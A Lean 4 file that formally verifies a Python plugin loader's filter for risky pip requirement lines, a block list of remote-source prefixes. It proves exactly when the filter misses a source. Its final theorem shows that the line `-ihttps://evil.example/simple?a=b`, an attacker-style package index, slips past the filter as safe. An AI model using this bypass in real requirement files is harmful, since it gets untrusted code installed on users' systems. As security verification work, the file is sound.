import MMRelay.Lib.PipFile
import MMRelay.Loader.Requirements

/-!
# The filter for risky requirements

`_is_requirement_risky`, `_filter_risky_requirement_lines` and `_effective_requirements_for_repo`
(`plugin_loader.py`), against the places where pip reads a source in the file that it is given.

* `tokenIsRisky`, `filterRiskyRequirementLines`, `effectiveRequirements`: the code;
* `pipArgs`, `fileArgs`, `NamesSource`: the sources that pip reads;
* `Unchecked`, `Checked`: the tokens whose value the filter does not look at;
* `tokenIsRisky_of_arg`: in every other token a source is seen;
* `sourcesChecked_plain`: on plain lines pip and the filter read the same tokens;
* **`filter_sound_iff`**: the safe lines are free of sources if and only if pip reads none in a
  token that the filter does not look at.
-/

namespace MMRelay.Loader

open PipFile

/-! ## The code -/

/-- `RISKY_REQUIREMENT_PREFIXES`. -/
def riskyRequirementPrefixes : List String :=
  ["git+", "ssh://", "git://", "hg+", "bzr+", "svn+", "http://", "https://"]

/-- `PIP_SOURCE_FLAGS`. -/
def pipSourceFlags : List Text :=
  ["-e", "--editable", "-f", "--find-links", "-i", "--index-url", "--extra-index-url"].map
    String.toList

/-- `PIP_SHORT_SOURCE_FLAGS`. -/
def pipShortSourceFlags : List Char :=
  pipSourceFlags.filterMap fun f => if f.length = 2 ∧ startsWith "-" f then f[1]? else none

/-- One of the prefixes begins the string, in any case. -/
def hasRiskyPrefix (req : Text) : Bool := riskyRequirementPrefixes.any fun p => startsWith p (lower req)

/-- `_is_requirement_risky`. -/
def isRequirementRisky (req : Text) : Bool :=
  hasRiskyPrefix req || (req.contains '@' && decide ("://".toList <:+: req))

/-- `token.partition("=")[0]`. -/
def beforeEquals (token : Text) : Text := token.takeWhile (· ≠ '=')

/-- The body of the loop over the tokens of a line. -/
def tokenIsRisky (token : Text) : Bool :=
  if startsWith "-" token && token.contains '=' then
    pipSourceFlags.contains (lower (beforeEquals token)) && isRequirementRisky (afterEquals token)
  else if startsWith "-" token && !startsWith "--" token && decide (2 < token.length) &&
      token[1]?.any (· ∈ pipShortSourceFlags) then
    isRequirementRisky (token.drop 2)
  else if pipSourceFlags.contains (lower token) then false
  else isRequirementRisky token

/-- The safe and the flagged lines so far. -/
abbrev Classified := List Text × List Text

/-- One turn of the loop over the lines. -/
def classifyLine (s : Classified) (line : Text) : Except Exc Classified :=
  match shlexSplit true line with
  | none => .error .valueError
  | some tokens =>
    if tokens.isEmpty then .ok s
    else if tokens.any tokenIsRisky then .ok (s.1, s.2 ++ [line])
    else .ok (s.1 ++ [line], s.2)

/-- `_filter_risky_requirement_lines`. -/
def filterRiskyRequirementLines (lines : List Text) : Except Exc Classified :=
  lines.foldlM classifyLine ([], [])

/-- `bool(_get_security_settings().get("allow_untrusted_dependencies", False))`. -/
def allowUntrustedDependencies (config : Py) : Bool :=
  ((config.field "security").field "allow_untrusted_dependencies").truthy

/-- `EffectiveRequirements`. -/
structure EffectiveRequirements where
  allowed : List Text
  flagged : List Text
  deriving DecidableEq

/-- `_effective_requirements_for_repo`. -/
def effectiveRequirements (config : Py) (files : Files) (room : ℕ) (requirementsPath : AbsPath) :
    Except Exc EffectiveRequirements := do
  let r ← collectRequirements files room [] requirementsPath
  let s ← filterRiskyRequirementLines r.1
  return ⟨if allowUntrustedDependencies config then s.1 ++ s.2 else s.1, s.2⟩

/-! ## Sources under pip's option syntax -/

/-- The short options of pip that take a source. -/
def shortValueFlags : List Char := ['e', 'f', 'i', 'r', 'c']

/-- The long options of pip that take a source. -/
def longValueFlags : List String :=
  ["--editable", "--find-links", "--index-url", "--pypi-url", "--extra-index-url", "--requirement",
    "--constraint"]

/-- The option stands alone: its value is the next token. -/
def isValueFlag (token : Text) : Bool :=
  (shortValueFlags.map fun c => ['-', c]).contains token ||
    (longValueFlags.map String.toList).contains token

/-- The value after `=` of a long option. -/
def longArg (token : Text) : Option Text :=
  if longValueFlags.any fun f => startsWith (f ++ "=") token then some (afterEquals token) else none

/-- The value attached to a short option. -/
def shortArg : Text → Option (Char × Text)
  | '-' :: c :: v => if c ∈ shortValueFlags ∧ v ≠ [] then some (c, v) else none
  | _ => none

/-- The positional tokens and the option values among some tokens, each with the token that holds
it. -/
def pipArgs : List Text → List (Text × Text)
  | [] => []
  | token :: rest =>
    if isValueFlag token then
      match rest with
      | [] => []
      | value :: rest => (value, value) :: pipArgs rest
    else
      match longArg token, shortArg token with
      | some v, _ => (token, v) :: pipArgs rest
      | none, some (_, v) => (token, v) :: pipArgs rest
      | none, none => if startsWith "-" token then pipArgs rest else (token, token) :: pipArgs rest

/-- A reference `name@scheme://…`. -/
def isReference (v : Text) : Bool :=
  let name := v.takeWhile (· ≠ '@')
  let afterName := (v.dropWhile (· ≠ '@')).drop 1
  let scheme := afterName.takeWhile (· ≠ ':')
  !name.isEmpty && !startsWith "-" name && !scheme.isEmpty &&
    startsWith "://" (afterName.dropWhile (· ≠ ':')) && v.contains '@'

/-- The value is a source under version control or a URL. -/
def namesSource (v : Text) : Bool := hasRiskyPrefix v || isReference v

/-- The words of the requirement of a line and what its options hold. -/
def lineArgs (line : Text) : List (Text × Text) :=
  ((lineTokens line).1.map fun word => (word, word)) ++ ((lineTokens line).2.elim [] pipArgs)

/-- All of these in a file with the lines. -/
def fileArgs (getenv : Text → Text) (lines : List Text) : List (Text × Text) :=
  (logicalLines getenv (fileText lines)).flatMap lineArgs

/-- A positional token or an option value of a file with the lines is a source. -/
def NamesSource (getenv : Text → Text) (lines : List Text) : Prop :=
  ∃ a ∈ fileArgs getenv lines, namesSource a.2 = true

/-! ## What the filter looks at -/

/-- The line has tokens, and none of them is risky. -/
def isSafeLine (line : Text) : Bool :=
  (shlexSplit true line).any fun tokens => !tokens.isEmpty && !tokens.any tokenIsRisky

/-- One of the tokens of the line is risky. -/
def isFlaggedLine (line : Text) : Bool :=
  (shlexSplit true line).any fun tokens => tokens.any tokenIsRisky

/-- The value of a token in one of these spellings is not looked at: `--requirement=…`,
`--constraint=…`, `--pypi-url=…`, `-r…`, `-c…`, and any short option whose attached value has an
equals sign. -/
def Unchecked (token : Text) : Prop :=
  startsWith "--requirement=" token = true ∨ startsWith "--constraint=" token = true ∨
    startsWith "--pypi-url=" token = true ∨
      ∃ c v, shortArg token = some (c, v) ∧ (c = 'r' ∨ c = 'c' ∨ '=' ∈ v)

/-- The token is one of the tokens that the filter reads in the lines, and it looks at its value. -/
def Checked (lines : List Text) (token : Text) : Prop :=
  ¬ Unchecked token ∧ ∃ line ∈ lines, ∃ tokens, shlexSplit true line = some tokens ∧ token ∈ tokens

/-- Every source that pip reads in the lines without a risky token is in a token that the filter
looks at. -/
def SourcesChecked (getenv : Text → Text) (lines : List Text) : Prop :=
  ∀ a ∈ fileArgs getenv (lines.filter isSafeLine), namesSource a.2 = true →
    Checked (lines.filter isSafeLine) a.1

/-! ## Where the filter looks -/

theorem startsWith_iff {pre : String} {s : Text} :
    startsWith pre s = true ↔ ∃ t, s = pre.toList ++ t := by
  unfold startsWith
  rw [List.isPrefixOf_iff_prefix]
  exact ⟨fun ⟨t, ht⟩ => ⟨t, ht.symm⟩, fun ⟨t, ht⟩ => ⟨t, ht.symm⟩⟩

theorem toLower_eq_dash {c : Char} (h : c.toLower = '-') : c = '-' := by
  unfold Char.toLower at h
  split at h
  · next hc =>
    exfalso
    have hv := congrArg (fun c => c.val.toNat) h
    have h1 := UInt32.le_iff_toNat_le.mp hc.1
    have h2 := UInt32.le_iff_toNat_le.mp hc.2
    simp only [UInt32.toNat_add] at hv h1 h2
    have e1 : ('A'.val).toNat = 65 := rfl
    have e2 : ('Z'.val).toNat = 90 := rfl
    have e3 : ('a'.val - 'A'.val).toNat = 32 := rfl
    have e4 : ('-'.val).toNat = 45 := rfl
    omega
  · exact h

theorem startsWith_dash_lower (v : Text) : startsWith "-" (lower v) = startsWith "-" v := by
  cases v with
  | nil => rfl
  | cons c cs =>
    unfold lower startsWith
    rw [List.flatMap_cons]
    change (['-'].isPrefixOf (lowerChar c ++ _)) = ['-'].isPrefixOf (c :: cs)
    unfold lowerChar
    split_ifs with h1 h2
    · subst h1
      rfl
    · subst h2
      rfl
    · by_cases hc : c = '-'
      · subst hc
        rfl
      · have hlow : c.toLower ≠ '-' := fun h => hc (toLower_eq_dash h)
        simp [List.isPrefixOf, Ne.symm hc, Ne.symm hlow]

theorem not_dash_of_hasRiskyPrefix {v : Text} (h : hasRiskyPrefix v = true) :
    startsWith "-" v = false := by
  rw [← startsWith_dash_lower]
  obtain ⟨p, hp, hstart⟩ := List.any_eq_true.mp h
  obtain ⟨t, ht⟩ := startsWith_iff.mp hstart
  rw [ht]
  simp only [riskyRequirementPrefixes, List.mem_cons, List.not_mem_nil, or_false] at hp
  rcases hp with rfl | rfl | rfl | rfl | rfl | rfl | rfl | rfl <;> rfl

theorem not_dash_of_isReference {v : Text} (h : isReference v = true) :
    startsWith "-" v = false := by
  by_contra hdash
  obtain ⟨t, rfl⟩ := startsWith_iff.mp (Bool.eq_true_of_not_eq_false hdash)
  unfold isReference at h
  simp [startsWith] at h

theorem not_dash_of_namesSource {v : Text} (h : namesSource v = true) :
    startsWith "-" v = false := by
  rcases Bool.or_eq_true_iff.mp h with h | h
  · exact not_dash_of_hasRiskyPrefix h
  · exact not_dash_of_isReference h

theorem isRequirementRisky_of_namesSource {v : Text} (h : namesSource v = true) :
    isRequirementRisky v = true := by
  unfold isRequirementRisky
  rcases Bool.or_eq_true_iff.mp h with h | h
  · rw [h, Bool.true_or]
  · unfold isReference at h
    simp only [Bool.and_eq_true] at h
    obtain ⟨⟨-, hscheme⟩, hat⟩ := h
    obtain ⟨t, ht⟩ := startsWith_iff.mp hscheme
    have hsuffix : ("://".toList ++ t) <:+ v := by
      rw [← ht]
      exact (List.dropWhile_suffix _).trans
        ((List.drop_suffix _ _).trans (List.dropWhile_suffix _))
    have hinfix : "://".toList <:+: v := (List.prefix_append _ _).isInfix.trans hsuffix.isInfix
    rw [hat, decide_eq_true hinfix, Bool.true_and, Bool.or_true]

theorem dash_of_mem_pipSourceFlags {f : Text} (h : f ∈ pipSourceFlags) :
    startsWith "-" f = true := by
  simp only [pipSourceFlags, List.mem_map, List.mem_cons, List.not_mem_nil, or_false] at h
  obtain ⟨g, rfl | rfl | rfl | rfl | rfl | rfl | rfl, rfl⟩ := h <;> rfl

/-- A token that is not an option is looked at as a whole. -/
theorem tokenIsRisky_of_not_dash {v : Text} (h : startsWith "-" v = false) :
    tokenIsRisky v = isRequirementRisky v := by
  have hflag : ¬ pipSourceFlags.contains (lower v) = true := by
    intro hmem
    have := dash_of_mem_pipSourceFlags (List.contains_iff_mem.mp hmem)
    rw [startsWith_dash_lower, h] at this
    cases this
  unfold tokenIsRisky
  rw [h, if_neg hflag]
  simp

theorem takeWhile_ne_append {pre v : Text} (h : '=' ∉ pre) :
    beforeEquals (pre ++ '=' :: v) = pre ∧ afterEquals (pre ++ '=' :: v) = v := by
  unfold beforeEquals afterEquals
  induction pre with
  | nil => simp
  | cons c cs ih =>
    rw [List.mem_cons, not_or] at h
    have hc : c ≠ '=' := fun heq => h.1 heq.symm
    simpa [hc] using ih h.2

/-- The value of a long option after `=` is looked at, unless it names a file of requirements. -/
theorem tokenIsRisky_of_longArg {token v : Text} (harg : longArg token = some v)
    (hchecked : ¬ Unchecked token) (hv : namesSource v = true) : tokenIsRisky token = true := by
  unfold longArg at harg
  split_ifs at harg with hany
  obtain ⟨f, hf, hstart⟩ := List.any_eq_true.mp hany
  obtain ⟨t, rfl⟩ := startsWith_iff.mp hstart
  have hflag : f.toList ∈ pipSourceFlags ∧ '=' ∉ f.toList ∧ lower f.toList = f.toList ∧
      startsWith "-" f.toList = true := by
    simp only [longValueFlags, List.mem_cons, List.not_mem_nil, or_false] at hf
    rcases hf with rfl | rfl | rfl | rfl | rfl | rfl | rfl
    · decide +kernel
    · decide +kernel
    · decide +kernel
    · exact absurd (Or.inr (Or.inr (Or.inl hstart))) hchecked
    · decide +kernel
    · exact absurd (Or.inl hstart) hchecked
    · exact absurd (Or.inr (Or.inl hstart)) hchecked
  obtain ⟨hmem, hne, hlow, hdash⟩ := hflag
  obtain ⟨u, hu⟩ := startsWith_iff.mp hdash
  have htoken : (f ++ "=").toList ++ t = f.toList ++ '=' :: t := by
    rw [String.toList_append, List.append_assoc]
    rfl
  rw [htoken] at harg ⊢
  have hparts := takeWhile_ne_append (v := t) hne
  rw [hparts.2, Option.some.injEq] at harg
  unfold tokenIsRisky
  have hstartsWith : startsWith "-" (f.toList ++ '=' :: t) = true :=
    startsWith_iff.mpr ⟨u ++ '=' :: t, by rw [hu]; simp⟩
  have hcontains : (f.toList ++ '=' :: t).contains '=' = true := by simp
  rw [hstartsWith, hcontains, hparts.1, hparts.2, hlow, harg,
    isRequirementRisky_of_namesSource hv]
  simp [hmem]

/-- The value attached to a short option is looked at, unless it has an equals sign or names a
file of requirements. -/
theorem tokenIsRisky_of_shortArg {token v : Text} {c : Char} (harg : shortArg token = some (c, v))
    (hchecked : ¬ Unchecked token) (hv : namesSource v = true) : tokenIsRisky token = true := by
  have hc : c ≠ 'r' ∧ c ≠ 'c' ∧ '=' ∉ v := by
    refine ⟨fun h => ?_, fun h => ?_, fun h => ?_⟩
    · exact hchecked (Or.inr (Or.inr (Or.inr ⟨c, v, harg, Or.inl h⟩)))
    · exact hchecked (Or.inr (Or.inr (Or.inr ⟨c, v, harg, Or.inr (Or.inl h)⟩)))
    · exact hchecked (Or.inr (Or.inr (Or.inr ⟨c, v, harg, Or.inr (Or.inr h)⟩)))
  unfold shortArg at harg
  split at harg
  · next c' v' =>
    split_ifs at harg with hflag
    obtain ⟨rfl, rfl⟩ := Prod.mk.inj (Option.some.inj harg)
    obtain ⟨hr, hcc, heq⟩ := hc
    have hshort : c' = 'e' ∨ c' = 'f' ∨ c' = 'i' := by
      have := hflag.1
      simp only [shortValueFlags, List.mem_cons, List.not_mem_nil, or_false] at this
      tauto
    have hlen : 0 < v'.length := List.length_pos_of_ne_nil hflag.2
    unfold tokenIsRisky
    have hsrc : c' ∈ pipShortSourceFlags ∧ c' ≠ '-' ∧ c' ≠ '=' := by
      rcases hshort with rfl | rfl | rfl <;> decide +kernel
    have hcontains : ('-' :: c' :: v').contains '=' = false := by
      simp [heq, Ne.symm hsrc.2.2]
    have hstart : startsWith "--" ('-' :: c' :: v') = false := by
      simp [startsWith, List.isPrefixOf, Ne.symm hsrc.2.1]
    rw [hcontains, hstart]
    simp [startsWith, hsrc.1, hlen, isRequirementRisky_of_namesSource hv]
  · cases harg

theorem mem_pipArgs {tokens : List Text} {a : Text × Text} (h : a ∈ pipArgs tokens) :
    a.1 ∈ tokens ∧ (a.1 = a.2 ∨ longArg a.1 = some a.2 ∨ ∃ c, shortArg a.1 = some (c, a.2)) := by
  fun_induction pipArgs tokens with
  | case1 => cases h
  | case2 => cases h
  | case3 token hflag value rest ih =>
    rcases List.mem_cons.mp h with rfl | h
    · exact ⟨List.mem_cons_of_mem _ List.mem_cons_self, Or.inl rfl⟩
    · exact ⟨List.mem_cons_of_mem _ (List.mem_cons_of_mem _ (ih h).1), (ih h).2⟩
  | case4 token rest hflag v hlong ih =>
    rcases List.mem_cons.mp h with rfl | h
    · exact ⟨List.mem_cons_self, Or.inr (Or.inl hlong)⟩
    · exact ⟨List.mem_cons_of_mem _ (ih h).1, (ih h).2⟩
  | case5 token rest hflag c v hshort hlong ih =>
    rcases List.mem_cons.mp h with rfl | h
    · exact ⟨List.mem_cons_self, Or.inr (Or.inr ⟨c, hshort⟩)⟩
    · exact ⟨List.mem_cons_of_mem _ (ih h).1, (ih h).2⟩
  | case6 token rest hflag hlong hshort hdash ih =>
    exact ⟨List.mem_cons_of_mem _ (ih h).1, (ih h).2⟩
  | case7 token rest hflag hlong hshort hdash ih =>
    rcases List.mem_cons.mp h with rfl | h
    · exact ⟨List.mem_cons_self, Or.inl rfl⟩
    · exact ⟨List.mem_cons_of_mem _ (ih h).1, (ih h).2⟩

/-- A token of the line holds its value as a whole, after an equals sign or after a short option. -/
theorem mem_lineArgs {line : Text} {a : Text × Text} (h : a ∈ lineArgs line) :
    (a.1 ∈ (lineTokens line).1 ∨ ∃ options, (lineTokens line).2 = some options ∧ a.1 ∈ options) ∧
      (a.1 = a.2 ∨ longArg a.1 = some a.2 ∨ ∃ c, shortArg a.1 = some (c, a.2)) := by
  rcases List.mem_append.mp h with h | h
  · obtain ⟨word, hword, rfl⟩ := List.mem_map.mp h
    exact ⟨Or.inl hword, Or.inl rfl⟩
  · cases hoptions : (lineTokens line).2 with
    | none =>
      rw [hoptions] at h
      cases h
    | some options =>
      rw [hoptions] at h
      exact ⟨Or.inr ⟨options, rfl, (mem_pipArgs h).1⟩, (mem_pipArgs h).2⟩

/-- **A source is seen** in every token but the unchecked spellings. -/
theorem tokenIsRisky_of_arg {line : Text} {a : Text × Text} (ha : a ∈ lineArgs line)
    (hchecked : ¬ Unchecked a.1) (hv : namesSource a.2 = true) : tokenIsRisky a.1 = true := by
  rcases (mem_lineArgs ha).2 with heq | hlong | ⟨c, hshort⟩
  · rw [heq, tokenIsRisky_of_not_dash (not_dash_of_namesSource hv)]
    exact isRequirementRisky_of_namesSource hv
  · exact tokenIsRisky_of_longArg hlong hchecked hv
  · exact tokenIsRisky_of_shortArg hshort hchecked hv

/-! ## The groups -/

/-- The tokens of a line that make it a safe one. -/
def SafeLine (line : Text) : Prop :=
  ∃ tokens, shlexSplit true line = some tokens ∧ tokens ≠ [] ∧ tokens.any tokenIsRisky = false

/-- The tokens of a line that make it a flagged one. -/
def FlaggedLine (line : Text) : Prop :=
  ∃ tokens, shlexSplit true line = some tokens ∧ tokens.any tokenIsRisky = true

theorem isSafeLine_iff {line : Text} : isSafeLine line = true ↔ SafeLine line := by
  unfold isSafeLine SafeLine
  cases shlexSplit true line <;> simp

theorem isFlaggedLine_iff {line : Text} : isFlaggedLine line = true ↔ FlaggedLine line := by
  unfold isFlaggedLine FlaggedLine
  cases shlexSplit true line <;> simp

theorem classifyLine_eq {s s' : Classified} {l : Text} (h : classifyLine s l = .ok s') :
    s' = (s.1 ++ [l].filter isSafeLine, s.2 ++ [l].filter isFlaggedLine) := by
  unfold classifyLine at h
  split at h
  · cases h
  · next tokens hlex =>
    have hsafe : isSafeLine l = (!tokens.isEmpty && !tokens.any tokenIsRisky) := by
      simp [isSafeLine, hlex]
    have hflagged : isFlaggedLine l = tokens.any tokenIsRisky := by simp [isFlaggedLine, hlex]
    rw [List.filter_singleton, List.filter_singleton, hsafe, hflagged]
    split_ifs at h with hempty hany
    · obtain rfl := Except.ok.inj h
      rw [List.isEmpty_iff] at hempty
      simp [hempty]
    · obtain rfl := Except.ok.inj h
      simp [hany]
    · obtain rfl := Except.ok.inj h
      simp [hempty, hany]

theorem foldlM_classifyLine_eq {lines : List Text} {s r : Classified}
    (h : lines.foldlM classifyLine s = .ok r) :
    r = (s.1 ++ lines.filter isSafeLine, s.2 ++ lines.filter isFlaggedLine) := by
  induction lines generalizing s with
  | nil =>
    obtain rfl := Except.ok.inj h
    simp
  | cons l ls ih =>
    rw [List.foldlM_cons, except_bind_eq_ok] at h
    obtain ⟨s', hs', hrest⟩ := h
    rw [ih hrest, classifyLine_eq hs']
    simp only [List.append_assoc, ← List.filter_append, List.singleton_append]

/-- **The groups** of a list of lines. -/
theorem filterRiskyRequirementLines_eq {lines : List Text} {r : Classified}
    (h : filterRiskyRequirementLines lines = .ok r) :
    r = (lines.filter isSafeLine, lines.filter isFlaggedLine) :=
  foldlM_classifyLine_eq h

theorem mem_filterRiskyRequirementLines {lines : List Text} {r : Classified}
    (h : filterRiskyRequirementLines lines = .ok r) (line : Text) :
    (line ∈ r.1 ↔ line ∈ lines ∧ SafeLine line) ∧
      (line ∈ r.2 ↔ line ∈ lines ∧ FlaggedLine line) := by
  rw [filterRiskyRequirementLines_eq h, List.mem_filter, List.mem_filter, isSafeLine_iff,
    isFlaggedLine_iff]
  exact ⟨Iff.rfl, Iff.rfl⟩

theorem isSome_of_foldlM {lines : List Text} {s r : Classified}
    (h : lines.foldlM classifyLine s = .ok r) : ∀ line ∈ lines, (shlexSplit true line).isSome = true := by
  induction lines generalizing s with
  | nil => exact fun line hl => absurd hl List.not_mem_nil
  | cons l ls ih =>
    rw [List.foldlM_cons, except_bind_eq_ok] at h
    obtain ⟨s', hs', hrest⟩ := h
    intro line hl
    rcases List.mem_cons.mp hl with rfl | hl
    · unfold classifyLine at hs'
      split at hs'
      · cases hs'
      · next hlex => rw [hlex]; rfl
    · exact ih hrest line hl

/-- The lines without a risky token are free of sources if and only if pip reads none in a token
that the filter does not look at. -/
theorem names_safe_iff (getenv : Text → Text) (lines : List Text) :
    ¬ NamesSource getenv (lines.filter isSafeLine) ↔ SourcesChecked getenv lines := by
  constructor
  · exact fun hno a ha hv => absurd ⟨a, ha, hv⟩ hno
  · rintro hchecked ⟨a, ha, hv⟩
    obtain ⟨hspelling, line, hline, tokens, hlex, hmem⟩ := hchecked a ha hv
    obtain ⟨logical, -, ha⟩ := List.mem_flatMap.mp ha
    obtain ⟨tokens', hlex', -, hsafe⟩ := isSafeLine_iff.mp (List.mem_filter.mp hline).2
    rw [hlex, Option.some.injEq] at hlex'
    subst hlex'
    have hrisky := List.any_eq_true.mpr ⟨a.1, hmem, tokenIsRisky_of_arg ha hspelling hv⟩
    rw [hsafe] at hrisky
    cases hrisky

/-- On a line that means nothing to the lexer, pip reads the tokens of the filter: only the
unchecked spellings count. -/
theorem sourcesChecked_plain (getenv : Text → Text) {line : Text} (h : Plain line) :
    SourcesChecked getenv [line] ↔
      (isSafeLine line = true → ∀ a ∈ lineArgs line, namesSource a.2 = true → ¬ Unchecked a.1) := by
  obtain ⟨options, hoptions, hwords⟩ := lineTokens_plain h.text
  have hlex : shlexSplit true line = some (words line) := shlexSplit_plain h.text
  have hmem : ∀ a ∈ lineArgs line, a.1 ∈ words line := by
    intro a ha
    rw [← hwords, List.mem_append]
    refine (mem_lineArgs ha).1.imp_right ?_
    rintro ⟨options', hoptions', hin⟩
    rw [hoptions, Option.some.injEq] at hoptions'
    rwa [hoptions']
  have hargs : fileArgs getenv [line] = lineArgs line := by
    rw [fileArgs, logicalLines_plain h, List.flatMap_singleton]
  unfold SourcesChecked Checked
  by_cases hsafe : isSafeLine line = true
  · rw [List.filter_cons_of_pos hsafe, List.filter_nil, hargs]
    refine ⟨fun hchecked _ a ha hv => (hchecked a ha hv).1, fun hspelling a ha hv => ?_⟩
    exact ⟨hspelling hsafe a ha hv, line, List.mem_singleton_self _, words line, hlex, hmem a ha⟩
  · rw [List.filter_cons_of_neg hsafe, List.filter_nil]
    exact ⟨fun _ hbad => absurd hbad hsafe, fun _ a ha => absurd ha List.not_mem_nil⟩

/-- **The filter.** No safe line names a source to pip if and only if pip reads none in it in a
token that the filter does not look at; and with untrusted dependencies off the same holds of the
file that is given to pip and the requirement lines of a tree of files. -/
theorem filter_sound_iff (getenv : Text → Text) (lines : List Text) :
    (∀ safe flagged, filterRiskyRequirementLines lines = .ok (safe, flagged) →
        ((∀ line ∈ safe, ¬ NamesSource getenv [line]) ↔
          ∀ line ∈ lines, SourcesChecked getenv [line])) ∧
    ∀ (config : Py) (files : Files) (room : ℕ) (path : AbsPath) (eff : EffectiveRequirements),
      allowUntrustedDependencies config = false →
      effectiveRequirements config files room path = .ok eff →
        ∃ gathered visited,
          collectRequirements files room [] path = .ok (gathered, visited) ∧
            (¬ NamesSource getenv eff.allowed ↔ SourcesChecked getenv gathered) := by
  refine ⟨fun safe flagged h => ?_, fun config files room path eff hallow h => ?_⟩
  · obtain rfl : safe = lines.filter isSafeLine :=
      congrArg Prod.fst (filterRiskyRequirementLines_eq h)
    have hone (line : Text) : (isSafeLine line = true → ¬ NamesSource getenv [line]) ↔
        SourcesChecked getenv [line] := by
      rw [← names_safe_iff]
      by_cases hsafe : isSafeLine line = true
      · rw [List.filter_cons_of_pos hsafe, List.filter_nil]
        exact ⟨fun hno => hno hsafe, fun hno _ => hno⟩
      · rw [List.filter_cons_of_neg hsafe, List.filter_nil]
        exact ⟨fun _ ⟨a, ha, _⟩ => List.not_mem_nil ha, fun _ hbad => absurd hbad hsafe⟩
    constructor
    · exact fun hno line hline =>
        (hone line).mp fun hsafe => hno line (List.mem_filter.mpr ⟨hline, hsafe⟩)
    · exact fun hchecked line hline =>
        (hone line).mpr (hchecked line (List.mem_filter.mp hline).1) (List.mem_filter.mp hline).2
  · unfold effectiveRequirements at h
    obtain ⟨r, hr, h⟩ := except_bind_eq_ok.mp h
    obtain ⟨s, hs, h⟩ := except_bind_eq_ok.mp h
    obtain rfl := Except.ok.inj h
    refine ⟨r.1, r.2, hr, ?_⟩
    rw [hallow, filterRiskyRequirementLines_eq hs]
    exact names_safe_iff getenv r.1

/-- An index attached to its option, with a query. -/
def hiddenIndex : Text := "-ihttps://evil.example/simple?a=b".toList

theorem filter_sound_iff_plain :
    (∀ line ∈ ["requests".toList], ¬ NamesSource (fun _ => []) [line]) ↔
      ∀ line ∈ ["requests".toList], SourcesChecked (fun _ => []) [line] :=
  (filter_sound_iff (fun _ => []) ["requests".toList]).1 ["requests".toList] [] (by decide +kernel)

/-- The line of a hidden index is in the safe group. -/
theorem hiddenIndex_safe :
    ∃ safe flagged, filterRiskyRequirementLines [hiddenIndex] = .ok (safe, flagged) ∧
      ∃ line ∈ safe, NamesSource (fun _ => []) [line] := by
  refine ⟨[hiddenIndex], [], by decide +kernel, hiddenIndex, List.mem_singleton_self _, ?_⟩
  exact ⟨(hiddenIndex, hiddenIndex.drop 2), by decide +kernel, by decide +kernel⟩

end MMRelay.Loader
